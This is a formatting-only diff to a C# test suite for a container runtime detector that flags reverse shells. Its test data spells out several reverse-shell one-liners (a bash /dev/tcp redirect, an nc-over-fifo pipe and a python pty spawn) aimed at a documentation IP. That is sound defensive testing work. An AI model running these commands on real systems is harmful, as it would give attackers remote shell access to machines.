@@ -15,7 +15,8 @@ public sealed class ReverseShellTests
 
     [Fact]
     public void Alarms_when_only_two_streams_are_taken_and_the_socket_did_not_block() =>
-        RunningContainer().Forks(11).Connects(3, result: -115).Copies(3, 0).Copies(0, 1).Execs("/bin/bash", "bash").ThenAlarms(Detectors, Connected);
+        RunningContainer().Forks(11).Connects(3, result: -115).Copies(3, 0).Copies(0, 1).Execs("/bin/bash", "bash")
+            .ThenAlarms(Detectors, Connected);
 
     [Fact]
     public void Alarms_when_a_child_of_the_connected_process_is_the_shell() =>
@@ -24,7 +25,8 @@ public sealed class ReverseShellTests
 
     [Fact]
     public void Alarms_on_a_child_that_takes_over_its_parents_connection() =>
-        RunningContainer().Runs(11, "/usr/bin/perl", "perl", "/tmp/a.pl").Connects(3).Forks(12).Copies(3, 0).Copies(3, 1).Execs("/bin/sh", "sh")
+        RunningContainer().Runs(11, "/usr/bin/perl", "perl", "/tmp/a.pl").Connects(3).Forks(12).Copies(3, 0).Copies(3, 1)
+            .Execs("/bin/sh", "sh")
             .ThenAlarms(Detectors, Connected);
 
     [Fact]
@@ -35,7 +37,8 @@ public sealed class ReverseShellTests
     [Fact]
     public void Alarms_on_who_accepts_and_becomes_a_shell()
     {
-        var alarms = RunningContainer().Runs(11, "/opt/listen", "listen").Accepts(4).Copies(4, 0).Copies(4, 1).Execs("/bin/sh", "sh").Run(Detectors);
+        var alarms = RunningContainer().Runs(11, "/opt/listen", "listen").Accepts(4).Copies(4, 0).Copies(4, 1).Execs("/bin/sh", "sh")
+            .Run(Detectors);
 
         AlarmText.Short(alarms).ShouldBe(["raised MP-02 Critical 203.0.113.9:50000: reverse-shell:streams"]);
     }
@@ -44,7 +47,8 @@ public sealed class ReverseShellTests
     [InlineData("/bin/bash", "/dev/tcp", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]
     [InlineData("/bin/bash", "/dev/tcp", "bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/444; while read l <&5; do $l 2>&5 >&5; done")]
     [InlineData("/bin/sh", "named pipe", "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f")]
-    [InlineData("/usr/bin/python3", "interpreter", "python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('/bin/sh')")]
+    [InlineData("/usr/bin/python3", "interpreter", "python3", "-c",
+        "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('/bin/sh')")]
     public void Alarms_on_a_command_line_that_ties_a_shell_to_the_network(string path, string sign, params string[] arguments)
     {
         var alarms = RunningContainer().Runs(11, path, arguments).Run(Detectors);
@@ -83,7 +87,8 @@ public sealed class ReverseShellTests
     [InlineData("/usr/sbin/inetd")]
     [InlineData("/usr/sbin/sshd")]
     public void Says_nothing_of_servers_that_hand_out_their_connections(string server) =>
-        RunningContainer().Runs(11, server, server).Accepts(4).Connects(5).Forks(12).Copies(5, 0).Copies(4, 0).Copies(4, 1).Execs("/bin/sh", "sh").ThenAlarms(Detectors);
+        RunningContainer().Runs(11, server, server).Accepts(4).Connects(5).Forks(12).Copies(5, 0).Copies(4, 0).Copies(4, 1)
+            .Execs("/bin/sh", "sh").ThenAlarms(Detectors);
 
     [Fact]
     public void Says_nothing_when_a_shell_comes_long_after_the_connection() =>
@@ -91,12 +96,14 @@ public sealed class ReverseShellTests
 
     [Fact]
     public void Says_nothing_of_a_node_that_has_connections_and_starts_a_shell_with_its_socket_pairs() =>
-        RunningContainer().Runs(11, "/usr/bin/node", "node", "/srv/a.js").Connects(20, 5432).Runs(12, "/bin/sh", ["sh", "-c", "git log"], Streams(Socket, Socket))
+        RunningContainer().Runs(11, "/usr/bin/node", "node", "/srv/a.js").Connects(20, 5432)
+            .Runs(12, "/bin/sh", ["sh", "-c", "git log"], Streams(Socket, Socket))
             .ThenAlarms(Detectors);
 
     [Fact]
     public void Says_nothing_of_streams_that_are_files_again() =>
-        RunningContainer().Forks(11).Connects(3).Copies(3, 0).Copies(3, 1).Copies(9, 0).Copies(9, 1).Execs("/bin/sh", "sh").ThenAlarms(Detectors);
+        RunningContainer().Forks(11).Connects(3).Copies(3, 0).Copies(3, 1).Copies(9, 0).Copies(9, 1).Execs("/bin/sh", "sh")
+            .ThenAlarms(Detectors);
 
     [Fact]
     public void Names_the_connection_and_what_is_missing_of_its_time()
